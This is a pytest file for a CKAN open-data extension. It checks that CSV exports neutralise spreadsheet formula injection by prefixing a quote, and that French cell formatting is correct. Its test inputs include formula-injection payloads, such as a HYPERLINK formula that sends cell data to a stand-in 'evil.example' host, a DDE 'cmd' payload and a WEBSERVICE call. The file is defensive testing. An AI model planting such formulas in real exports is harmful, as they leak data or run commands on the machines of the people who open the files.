"""Every CSV the extension serves goes through one writer (csv_export.py): a
text that a spreadsheet would run as a formula is written after a ``'``.
The probe of the demo found organization and dataset titles starting with
``=`` reaching the EPCI's dashboard.csv and the usage.csv unneutralised."""

from __future__ import annotations

import csv
import io

import pytest
from ckan.tests import factories, helpers

from ckanext.opendata_territoire import csv_export
from ckanext.opendata_territoire.decp.model import CSV_COLUMNS
from ckanext.opendata_territoire.decp.writers import write_csv_rows
from tests.factories import dataset_fields
from tests.people import headers

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Engins")'


@pytest.mark.parametrize(
    "text", ["=1+1", "+33 4 76", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"]
)
def test_a_text_that_would_start_a_formula_is_made_inert(text):
    assert csv_export.inert(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, 3, "-12.5", "+3", "-1,5", "Engins", "", None])
def test_numbers_and_plain_texts_stay_as_they_are(value):
    assert csv_export.inert(value) == value


def cells(response) -> list[list[str]]:
    """The cells of a CSV export made for French spreadsheets (";", after a
    byte-order mark)."""
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def rename(territory, org: str, title: str) -> None:
    helpers.call_action(
        "organization_patch",
        context={"user": territory["people"]["sysadmin"]["name"]},
        id=org,
        title=title,
    )


@pytest.mark.usefixtures("clean_db", "clean_index")
def test_the_epci_dashboard_csv_neutralises_titles(app, territory):
    rename(territory, "engins", EVIL)

    exported = app.get(
        "/organization/ccmv/dashboard.csv",
        headers=headers(territory["people"]["epci_admin"]),
    )

    flat = [cell for row in cells(exported) for cell in row]
    assert "'" + EVIL in flat
    assert EVIL not in flat


@pytest.mark.usefixtures("clean_db", "clean_index")
@pytest.mark.parametrize("org", ["engins", "ccmv"])
def test_the_usage_csv_neutralises_titles(app, territory, org):
    rename(territory, "engins", EVIL)
    factories.Dataset(
        name="budget-engins",
        title="@SUM(1+1)*cmd",
        owner_org=territory["a"]["id"],
        **dataset_fields(),
    )
    reader = "admin_a" if org == "engins" else "epci_admin"

    exported = app.get(
        f"/organization/{org}/usage.csv?month=2026-11",
        headers=headers(territory["people"][reader]),
    )

    flat = [cell for row in cells(exported) for cell in row]
    assert "'@SUM(1+1)*cmd" in flat
    assert "@SUM(1+1)*cmd" not in flat


def test_the_decp_csv_neutralises_texts_and_keeps_numbers():
    out = io.StringIO()
    row = {name: None for name in CSV_COLUMNS}
    row.update(uid="213801533-1", objet='=WEBSERVICE("http://x")', montant=-1500.5)

    write_csv_rows([row], out)

    (written,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert written["objet"] == '\'=WEBSERVICE("http://x")'
    assert written["montant"] == "-1500.5"


def test_french_cells_have_a_decimal_comma_and_oui_non():
    from ckanext.opendata_territoire.csv_export import french_cell

    assert french_cell(2.5) == "2,5"
    assert french_cell(220000.0) == "220000"
    assert french_cell(0.125) == "0,125"
    assert french_cell(True) == "oui"
    assert french_cell(False) == "non"
    assert french_cell(12) == 12
    assert french_cell("2.5") == "2.5"  # a text stays as written
